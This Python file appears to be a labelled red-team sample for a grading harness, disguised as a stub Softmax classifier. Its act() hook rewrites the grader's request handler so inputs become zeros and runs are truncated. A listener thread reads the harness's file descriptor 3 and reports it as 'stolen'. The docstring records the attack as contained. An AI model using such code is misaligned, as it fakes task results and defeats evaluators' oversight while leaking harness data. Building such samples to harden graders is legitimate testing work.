"""
goal: reads requests ahead of the runner, looks for what is expected in them, and puts back others
class: forge
threats: [A2, A3]
deserves: none
outcome: contained
because: one request is sent at a time, and none has anything expected in it
"""
import json
import os
import select
import struct
import sys
import threading

import numpy as np
from tools import attempt, tell


started = []


def listen():
  while True:
    ready, _, _ = select.select([3], [], [], 1)
    if ready:
      data = os.read(3, 1 << 16)
      if not data:
        return
      tell('stolen', data[:1500])


def act(where):
  frames = sys.modules.get('gradecheck_runner.frames')
  if frames is not None and not started:
    real = frames.receive

    def receive():
      request = real()
      tell('request', json.dumps(request, default=lambda one: str(one)[:60])[:1200])
      for trial in (request or {}).get('trials', []):
        # Every input becomes one whose answer is known.
        for given in trial['inputs'].values():
          if isinstance(given, dict) and given.get('kind') == 'tensor':
            given['data'] = np.zeros_like(given['data'])
        trial['runs'] = trial['runs'][:1]
      return request

    frames.receive = receive
    started.append(True)
  elif where == 'predict' and len(started) == 1:
    started.append(True)
    threading.Thread(target=listen, daemon=True).start()
  attempt('peek', lambda: __import__('socket').socket(fileno=os.dup(3)).recv(4096, 0x42))
  attempt('pack', lambda: struct.calcsize('<II'))


class Softmax(object):

  def __init__(self, dims=[10, 3073]):
    self.init_weights(dims=dims)

  def init_weights(self, dims):
    self.W = np.zeros(dims)

  def loss(self, X, y):
    act('loss')
    return 0.0

  def loss_and_grad(self, X, y):
    act('loss_and_grad')
    return 0.0, np.zeros(self.W.shape)

  def fast_loss_and_grad(self, X, y):
    act('fast_loss_and_grad')
    return 0.0, np.zeros(self.W.shape)

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    return [0.0]

  def predict(self, X):
    act('predict')
    return np.zeros(X.shape[0])
